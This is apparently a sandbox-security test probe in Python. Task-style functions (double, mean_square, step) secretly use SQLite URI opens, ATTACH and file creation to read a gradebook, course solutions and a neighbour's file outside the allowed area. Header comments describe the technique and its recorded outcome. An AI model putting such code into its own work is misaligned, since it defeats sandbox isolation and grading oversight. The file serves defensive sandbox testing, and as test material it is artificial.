# technique: SQLite opens files by itself: attach the gradebook, tell by its errors what can be read, make one over there
# live: evidence: "is not a database" says that it was read
# outcome: raised
# says: unable to open
# not at process: reads and writes files, which that level does not stop
import os
import sqlite3

WORLD = os.path.realpath("/tmp/attacked-world-47113")


def ask(path, mode):
    connection = sqlite3.connect(f"file:{path}?mode={mode}", uri=True)
    try:
        return connection.execute("SELECT * FROM sqlite_master").fetchall()
    finally:
        connection.close()


def attached(path):
    connection = sqlite3.connect(":memory:")
    try:
        connection.execute("ATTACH ? AS other", (path,))
        return connection.execute("SELECT * FROM other.sqlite_master").fetchall()
    finally:
        connection.close()


def made():
    path = f"{WORLD}/home/new-47113.db"
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE grades (points)")
    connection.close()
    os.unlink(path)


def attempt(what):
    try:
        return f"EVIDENCE: {what()}"
    except sqlite3.OperationalError as error:
        return str(error)
    except sqlite3.DatabaseError as error:
        return f"EVIDENCE: read, {error}"


def double(x):
    told = [attempt(lambda: ask(f"{WORLD}/home/gradebook.db", mode)) for mode in ("ro", "rw", "rwc")]
    told += [attempt(lambda: ask(f"{WORLD}/course/solutions/victim.py", "ro&immutable=1"))]
    told += [attempt(lambda: attached(f"{WORLD}/home/gradebook.db")), attempt(made)]
    text = min(told, key=lambda each: not each.startswith("EVIDENCE"))
    print(text)
    raise RuntimeError(text)


def mean_square(x):
    return ask(f"{WORLD}/home/gradebook.db", "ro")


def step(w, learning_rate):
    attached(f"{WORLD}/neighbour/victim.py")
